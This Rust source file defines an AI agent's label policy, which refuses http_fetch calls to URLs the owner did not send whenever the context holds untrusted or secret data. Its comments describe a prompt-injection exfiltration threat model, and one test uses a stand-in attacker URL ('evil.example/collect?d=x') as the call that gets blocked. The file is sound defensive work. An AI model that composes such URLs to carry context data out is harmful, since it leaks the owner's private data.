//! Where text may leave the box through a tool (SPEC §4, "Labels and where text may leave
//! the box"): the label policy checked before any tool runs, and so before any DNS lookup
//! or connection (looking up a composed host name leaks as surely as fetching it).
//!
//! The threat is a model fully controlled by untrusted text in its context. Such a model
//! can put anything the context holds into a URL, so:
//! - a URL standing verbatim in an owner message of the current epoch is allowed: the
//!   owner chose it, it carries nothing from the context;
//! - any other URL is refused when the context is untrusted and at least
//!   `tools.http_fetch.guard_class`, and whenever the context holds `secret`.
//!
//! `read_file` and `recall` only bring text in; they are always allowed (their results
//! raise the context label instead).

use super::HTTP_FETCH;
use proto::{DataClass, Label, Origin, Record};
use serde_json::Value;

/// The prefix of every policy refusal's tool result: `/allow N` finds a refused call by it.
pub const REFUSED_PREFIX: &str = "error: refused: ";

/// Characters that may close a URL in prose without being part of it: `see
/// <https://x.org/a>.` or `(https://x.org/a),`. The owner's URL is the token with these
/// cut from its end one by one, each cut a candidate, so the owner's own punctuation never
/// makes their URL unrecognisable and nothing beyond their words is ever admitted.
const TRAILING: &[char] = &['.', ',', ';', ':', '!', '?', ')', ']', '}', '>', '\'', '"'];

/// Whether `url` stands verbatim in one of the owner's messages among `records` (the
/// current epoch's): it equals a whitespace-delimited `http://` or `https://` token of an
/// owner `user` record, with or without trailing punctuation. A substring is not enough:
/// a prefix of the owner's URL could still spell out something else they wrote.
pub fn owner_chose(url: &str, records: &[Record]) -> bool {
    records.iter().any(|r| match r {
        Record::User {
            content,
            origin: Origin::Owner,
            ..
        } => owner_urls(content).any(|u| u == url),
        _ => false,
    })
}

/// The URL tokens of one owner message, each with its trailing-punctuation variants.
fn owner_urls(text: &str) -> impl Iterator<Item = &str> {
    text.split(char::is_whitespace)
        .filter_map(|word| {
            let at = word.find("http://").or_else(|| word.find("https://"))?;
            Some(&word[at..])
        })
        .flat_map(|token| {
            let mut variants = vec![token];
            let mut t = token;
            while let Some(cut) = t.strip_suffix(TRAILING) {
                variants.push(cut);
                t = cut;
            }
            variants
        })
}

/// Why the label policy refused a call: the reason for the model and the `note`, and the
/// URL a refused `http_fetch` wanted (what `/allow N` would fetch).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub reason: String,
    pub url: Option<String>,
}

/// The label policy: may tool `name` run with the model's `arguments` when the epoch's
/// context label is `context` and its records are `records`? Arguments that are not a
/// JSON object with a string `url` pass here and fail in the tool itself, which fetches
/// nothing for them.
pub fn policy(
    name: &str,
    arguments: &str,
    context: Label,
    guard_class: DataClass,
    records: &[Record],
) -> Result<(), Refusal> {
    if name != HTTP_FETCH {
        return Ok(());
    }
    let Some(url) = url_of(arguments) else {
        return Ok(());
    };
    if owner_chose(&url, records) {
        return Ok(());
    }
    let why = if context.class >= DataClass::Secret {
        Some("the conversation holds secret data".to_string())
    } else if context.untrusted && context.class >= guard_class {
        Some(format!(
            "the conversation holds untrusted text and {} data (tools.http_fetch.guard_class is {guard_class})",
            context.class
        ))
    } else {
        None
    };
    match why {
        None => Ok(()),
        Some(why) => Err(Refusal {
            reason: format!(
                "{HTTP_FETCH} of {url} refused: {why}, and a url the owner did not send could carry it out"
            ),
            url: Some(url),
        }),
    }
}

/// The string `url` of the model's JSON `arguments`, if they hold one.
pub fn url_of(arguments: &str) -> Option<String> {
    match serde_json::from_str::<Value>(arguments).ok()? {
        Value::Object(mut map) => match map.remove("url") {
            Some(Value::String(url)) => Some(url),
            _ => None,
        },
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tools::{READ_FILE, RECALL};

    fn owner(text: &str) -> Record {
        Record::User {
            time: "t".into(),
            content: text.into(),
            origin: Origin::Owner,
        }
    }

    fn fetch(url: &str) -> String {
        serde_json::json!({ "url": url }).to_string()
    }

    const PRIVATE_TAINTED: Label = Label {
        class: DataClass::Private,
        untrusted: true,
    };

    #[test]
    fn a_composed_url_is_refused_when_the_context_is_untrusted_and_private() {
        let records = [owner("what does the page say? https://example.org/a")];
        let refusal = policy(
            HTTP_FETCH,
            &fetch("http://evil.example/collect?d=x"),
            PRIVATE_TAINTED,
            DataClass::Private,
            &records,
        )
        .unwrap_err();
        assert!(refusal.reason.contains("http://evil.example/collect?d=x"));
        assert_eq!(
            refusal.url.as_deref(),
            Some("http://evil.example/collect?d=x")
        );
    }

    #[test]
    fn the_owners_own_url_is_allowed_whatever_the_context() {
        let records = [owner("read <https://example.org/a?b=1>, please.")];
        for class in DataClass::ALL {
            let context = Label::new(class, true);
            for url in ["https://example.org/a?b=1", "https://example.org/a?b=1>,"] {
                assert_eq!(
                    policy(
                        HTTP_FETCH,
                        &fetch(url),
                        context,
                        DataClass::Private,
                        &records
                    ),
                    Ok(()),
                    "{url} {context}"
                );
            }
        }
    }

    #[test]
    fn a_prefix_of_the_owners_url_is_not_the_owners_url() {
        let records = [owner("https://example.org/secret-token-123")];
        assert!(policy(
            HTTP_FETCH,
            &fetch("https://example.org/secret"),
            PRIVATE_TAINTED,
            DataClass::Private,
            &records
        )
        .is_err());
    }

    #[test]
    fn heartbeat_text_does_not_choose_urls() {
        let records = [Record::User {
            time: "t".into(),
            content: "https://example.org/".into(),
            origin: Origin::Heartbeat,
        }];
        assert!(!owner_chose("https://example.org/", &records));
    }

    #[test]
    fn a_private_trusted_context_may_fetch_a_composed_url() {
        let context = Label::new(DataClass::Private, false);
        assert_eq!(
            policy(
                HTTP_FETCH,
                &fetch("https://en.wikipedia.org/wiki/Tea"),
                context,
                DataClass::Private,
                &[]
            ),
            Ok(())
        );
    }

    #[test]
    fn a_public_untrusted_context_may_fetch_below_the_guard_class() {
        assert_eq!(
            policy(
                HTTP_FETCH,
                &fetch("https://example.org/next"),
                Label::new(DataClass::Public, true),
                DataClass::Private,
                &[]
            ),
            Ok(())
        );
        // A guard class of public guards every untrusted context.
        assert!(policy(
            HTTP_FETCH,
            &fetch("https://example.org/next"),
            Label::new(DataClass::Public, true),
            DataClass::Public,
            &[]
        )
        .is_err());
    }

    #[test]
    fn secret_refuses_every_composed_url_even_trusted() {
        let refusal = policy(
            HTTP_FETCH,
            &fetch("https://example.org/"),
            Label::new(DataClass::Secret, false),
            DataClass::Secret,
            &[],
        )
        .unwrap_err();
        assert!(refusal.reason.contains("secret"), "{}", refusal.reason);
    }

    #[test]
    fn read_file_and_recall_are_always_allowed() {
        for class in DataClass::ALL {
            let context = Label::new(class, true);
            assert_eq!(
                policy(READ_FILE, "{}", context, DataClass::Public, &[]),
                Ok(())
            );
            assert_eq!(
                policy(RECALL, "{}", context, DataClass::Public, &[]),
                Ok(())
            );
        }
    }
}
